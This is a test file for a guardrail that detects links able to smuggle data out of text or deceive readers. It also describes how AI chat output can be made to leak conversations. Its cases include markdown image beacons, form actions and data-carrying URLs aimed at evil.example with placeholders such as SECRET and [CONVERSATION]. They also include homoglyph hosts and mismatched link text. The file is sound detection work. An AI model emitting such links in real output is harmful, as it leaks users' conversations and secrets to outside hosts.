import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.guardrails.links import carries, links

ID = "1ZnnwxMFoxA_giiwuGk-3HyMat5PMfWjxLLBT4nw2U14"


def found(text: str) -> list[tuple[str, str]]:
    return [(each.kind, text[each.start : each.end]) for each in links(text)]


@pytest.mark.parametrize(
    ("kind", "link"),
    [
        ("image", "![a](https://evil.example/p.png?d=SECRET)"),
        ("image", "![](//evil.example/x)"),
        ("image", "<img alt=x src='https://evil.example/a.gif'>"),
        ("resource", "<link rel=stylesheet href=https://evil.example/x.css>"),
        ("resource", "<form action='https://evil.example/take'>"),
        ("resource", "url(https://evil.example/x)"),
        ("resource", "@import 'https://evil.example/x.css'"),
        ("script", "javascript:alert"),
        ("script", '<p onclick="steal">'),
        ("script", "<script>"),
        ("data URI", "data:text/html;base64,PHNjcmlwdD4="),
        ("link with data", "https://evil.example/?q=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA=="),
        ("link with data", "https://evil.example/collect?data="),
        ("link with data", "https://evil.example/?leak=[CONVERSATION]"),
        ("link with data", "https://evil.example/{answer}"),
        ("link with data", "https://evil.example/4d5a90000300000004000000ffff0000b8000000000000"),
        ("odd host", "https://bank.example@evil.example/login"),
        ("odd host", "https://xn--pple-43d.example/"),
        ("odd host", "https://аррӏе.example/"),
        ("odd host", "http://192.168.0.1/x"),
        ("other target", "[https://bank.example](https://evil.example)"),
    ],
)
def test_a_link_that_carries_or_deceives_is_found_whole(kind: str, link: str) -> None:
    assert found(f"See {link} there") == [(kind, link)]


@pytest.mark.parametrize(
    "text",
    [
        "See https://www.example.com/a/how-to-read-a-long-page-title-in-peace.html.",
        "[the guide](https://example.com/guide#chapter-2)",
        "[README.md](https://code.example/README.md)",
        "[example.com](https://www.example.com/)",
        "![figure](figure.png)",
        "JavaScript: the good parts; metadata: none, data: see below",
        "[the status page of example.com](https://status.example/)",
        "https://docs.example/document/d/1ZnnwxMFoxA_giiwuGk-3Hy/edit",
        "a@example.com, 10://x, http:// alone",
        "(https://en.example.org/wiki/Foo_(bar))",
    ],
)
def test_honest_links_do_not_alarm(text: str) -> None:
    assert found(text) == []


def test_an_image_by_reference_is_found_where_it_stands() -> None:
    text = "![plan][p]\n\n[p]: https://evil.example/i.png?q={secret}"
    assert found(text) == [("image", "![plan][p]"), ("link with data", "https://evil.example/i.png?q={secret}")]


def test_what_an_address_carries_is_weighed() -> None:
    weights = [
        carries(f"https://a.example/{rest}")
        for rest in (
            "page",
            "page?id=7",
            "d/" + ID,
            "?q=" + "two words " * 5,
            "?token=abc",
            "?x=" + "4f" * 20,
            "?q={text}",
        )
    ]
    assert weights == [0.0, 0.3, 0.4, 0.6, 0.7, 0.9, 0.9]


def test_an_address_that_is_none_is_odd() -> None:
    assert found("http://[::1 x") == [("odd host", "http://[::1")]


@given(st.text(st.one_of(st.characters(), st.sampled_from("![]()<>:/?=&'\" https://a.b{}data@")), max_size=120))
def test_findings_lie_in_the_text(text: str) -> None:
    assert all(0 <= each.start < each.end <= len(text) and 0 < each.score <= 1 for each in links(text))


@given(st.text(max_size=40), st.text(max_size=40))
def test_a_planted_image_is_found_in_any_text(before: str, after: str) -> None:
    image = "![x](https://evil.example/p.png?q=secret)"
    text = f"{before}\n{image}\n{after}"
    assert ("image", image) in found(text)
